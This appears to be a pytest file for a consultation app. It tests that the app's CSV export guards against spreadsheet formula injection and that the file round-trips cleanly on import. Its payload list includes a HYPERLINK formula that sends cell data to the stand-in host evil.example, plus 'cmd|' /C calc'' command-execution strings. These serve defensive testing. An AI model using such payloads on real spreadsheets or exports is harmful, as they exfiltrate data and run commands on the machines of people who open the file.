"""Spreadsheet formulas in every field a respondent or moderator writes: the CSV export neutralises each one,
parses back to exactly its rows and columns, and an import of it changes nothing.

The guard (services/export.py): a cell that starts with = + - @, a tab, CR or LF gets a ' in front, and so
does a cell that starts with ' (so that the import can always take the guard off again). The payloads are
the third-party corpus (tests/data/corpora/csv/formula-payloads.txt) and a few of our own.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import select

from consult_app.extensions import db
from consult_app.models import Comment, User
from consult_app.services import export, importer
from tests import corpora
from tests.factories import make_comment, make_document, make_user, session_token_for

SECTION = "/guidance/test-guidance/public-good/"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
OWN = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\r\n=2+2",
    "'=1+1",
    "'-' means no data",
    '="quoted, with comma"',
]


@pytest.fixture(scope="module")
def payloads() -> list[str]:
    return list(dict.fromkeys(corpora.formula_payloads() + OWN))


def guarded(value: str) -> str:
    return "'" + value if value.startswith((*DANGEROUS_STARTS, "'")) else value


def one_line(text: str) -> str:
    """What a profile field (name, organisation, country) can hold of `text`: one line. The field refuses a line
    break inside (see test_naughty_strings.py for its whole rule), so the test sends such a payload again with its
    lines joined by a space."""
    value = text.strip()
    return " ".join(value.split()) if "\r" in value or "\n" in value else value


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def web_export(client) -> str:
    response = client.get("/moderation/export.csv")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def upload(client, data: bytes):
    return client.post("/moderation/import", data={"file": (io.BytesIO(data), "log.csv")})


def written(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def test_every_formula_in_every_field_is_neutralised_and_the_file_keeps_its_shape(
    app, client, app_context, tmp_path, payloads, login_as
):
    """Each payload is one account's name, organisation and country, that account's comment, and the
    moderator's note and response on it, all typed into the forms."""
    make_document(tmp_path)
    moderator = make_user("moderator")
    moderator_token = session_token_for(moderator)
    references = {}
    for number, payload in enumerate(payloads):
        author = make_user("reviewer")
        original_name = author.display_name
        author_client = app.test_client()
        author_client.post(
            "/auth/login", data={"email": author.email, "password": "a long and unusual test passphrase"}
        )
        # Cut to the fields' limits (name and country 100, organisation 200): a longer one is refused, as it should.
        profile = {"name": payload[:100], "organisation": payload[:200], "country": payload[:100]}
        profile["respondent_type"] = "individual"
        response = author_client.post("/account/profile", data=profile)
        if one_line(payload) != payload.strip():
            assert response.status_code == 400 and "Remove the invisible character U+000" in response.get_data(
                as_text=True
            ), payload
            db.session.expire_all()
            assert db.session.get(User, author.id).display_name == original_name  # nothing was stored
            profile.update({field: one_line(profile[field]) for field in ("name", "organisation", "country")})
            response = author_client.post("/account/profile", data=profile)
        assert response.status_code == 302, payload
        form = {"body": payload, "kind": "general", "publication": "public_named"}
        response = author_client.post(SECTION, data=form)
        assert response.status_code == 302, payload
        references[re.search(r"#(C-\d+)$", response.headers["Location"]).group(1)] = payload
        comment_id = int(response.headers["Location"].rsplit("-", 1)[1])
        with client.session_transaction() as session:
            session["_user_id"] = moderator_token
        decision = {"decision": "approve"} if number % 2 else {"decision": "reject", "reason": "other"}
        assert (
            client.post(f"/moderation/comments/{comment_id}/decision", data={**decision, "note": payload}).status_code
            == 302
        )
        answer = {"disposition": "noted", "response": payload}
        assert client.post(f"/moderation/comments/{comment_id}/disposition", data=answer).status_code == 302

    text = web_export(client)
    assert text == "".join(export.csv_chunks(export.rows(export.ExportFilters())))  # web and service agree
    rows = table(text)
    assert len(rows) == len(payloads) + 1 and {len(row) for row in rows} == {len(export.COLUMNS)}
    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS_STARTS)]
    by_reference = {row[0]: dict(zip(export.COLUMNS, row, strict=True)) for row in rows[1:]}
    for number, (reference, payload) in enumerate(references.items()):
        row = by_reference[reference]
        value = payload.strip()
        assert row["comment"] == row["response"] == guarded(value)
        assert row["author_name"] == row["country"] == guarded(one_line(payload[:100]))
        assert row["organisation"] == guarded(one_line(payload[:200]))
        assert row["moderation_reason"] == guarded(value if number % 2 else f"other: {value}")

    # The JSON export is not for spreadsheets: exactly what was stored, no guard.
    records = json.loads(client.get("/moderation/export.json").get_data(as_text=True))
    assert {record["reference"]: record["comment"] for record in records} == {
        reference: payload.strip() for reference, payload in references.items()
    }

    # Read back as it is, the file changes nothing; every guard comes off again.
    check = upload(client, text.encode("utf-8"))
    assert check.status_code == 200 and 'name="plan"' not in check.get_data(as_text=True)
    plan = importer.plan(importer.parse(text.encode("utf-8")))
    assert (plan.changes, plan.errors, plan.unchanged) == ([], [], len(payloads))


def test_formulas_written_into_the_spreadsheet_are_stored_as_text_and_exported_guarded(
    client, app_context, tmp_path, payloads, login_as
):
    """The drafting team types formulas as responses in the spreadsheet (as typed, unguarded): the import stores
    them as text, the next export guards them, and that export reads back unchanged."""
    document = make_document(tmp_path)
    author = make_user("reviewer")
    comments = [make_comment(author, document, status="approved", body=f"Comment {n}") for n in range(len(payloads))]
    login_as("moderator")
    rows = table(web_export(client))
    response_column, disposition_column = export.COLUMNS.index("response"), export.COLUMNS.index("disposition")
    for row, payload in zip(rows[1:], payloads, strict=True):
        row[disposition_column], row[response_column] = "noted", payload
    check = upload(client, written(rows))
    assert check.status_code == 200
    token = re.search(r'name="plan" type="hidden" value="([^"]+)"', check.get_data(as_text=True)).group(1)
    assert client.post("/moderation/import/apply", data={"plan": token}).status_code == 302

    db.session.expire_all()
    stored = [db.session.get(Comment, comment.id).response for comment in comments]
    # A typed "'=1+1" is read as the guard before "=1+1": the one reading of ' that a round trip needs.
    expected = [
        (p[1:] if p.startswith("'") and p[1:].startswith((*DANGEROUS_STARTS, "'")) else p).strip() for p in payloads
    ]
    assert stored == expected
    again = web_export(client)
    assert not [cell for row in table(again) for cell in row if cell.startswith(DANGEROUS_STARTS)]
    plan = importer.plan(importer.parse(again.encode("utf-8")))
    assert (plan.changes, plan.errors, plan.unchanged) == ([], [], len(payloads))


def test_a_response_that_starts_with_an_apostrophe_survives_the_round_trip(app_context, tmp_path):
    """It used to come back from the import without its ' ("-' means no data"), overwriting the answer."""
    from consult_app.services import moderation

    document = make_document(tmp_path)
    comment = make_comment(make_user("reviewer"), document, status="approved")
    moderation.set_disposition(make_user("moderator"), comment, "noted", "'-' means no data")
    db.session.commit()
    text = "".join(export.csv_chunks(export.rows(export.ExportFilters())))
    assert table(text)[1][export.COLUMNS.index("response")] == "''-' means no data"
    plan = importer.plan(importer.parse(text.encode("utf-8")))
    assert (plan.changes, plan.unchanged) == ([], 1)


def test_a_note_given_with_an_approval_is_exported_and_mailed(app, client, app_context, tmp_path, login_as, mailbox):
    """The decision form offers its note to the author with both buttons; an approval used to drop it from the
    export and from the mail."""
    document = make_document(tmp_path)
    comment = make_comment(make_user("reviewer"), document)
    login_as("moderator")
    data = {"decision": "approve", "note": "Thank you, published with a typo fixed."}
    assert client.post(f"/moderation/comments/{comment.id}/decision", data=data).status_code == 302
    row = dict(zip(export.COLUMNS, table(web_export(client))[1], strict=True))
    assert row["moderation_reason"] == "Thank you, published with a typo fixed."
    [message] = mailbox.deliver(1)
    assert "has been published" in message["Subject"]
    assert "The moderator added: Thank you, published with a typo fixed." in message.get_content()
    assert db.session.scalar(select(User.email).where(User.id == comment.author_id)) == message["To"]


def test_an_answer_time_out_of_range_is_a_conflict_not_a_crash(app_context, tmp_path):
    """Found by the import fuzzer: a responded_at cell such as 9999-12-31T23:59:59-05:00 has no moment in UTC,
    and reading it raised OverflowError (a 500 on the web page)."""
    from consult_app.services import moderation

    document = make_document(tmp_path)
    comment = make_comment(make_user("reviewer"), document, status="approved")
    moderation.set_disposition(make_user("moderator"), comment, "noted", "First answer.")
    db.session.commit()
    rows = table("".join(export.csv_chunks(export.rows(export.ExportFilters()))))
    rows[1][export.COLUMNS.index("responded_at")] = "9999-12-31T23:59:59-05:00"
    rows[1][export.COLUMNS.index("response")] = "A new answer."
    plan = importer.plan(importer.parse(written(rows)))
    [change] = plan.changes
    assert change.conflict and change.file_responded_at == "9999-12-31T23:59:59-05:00"
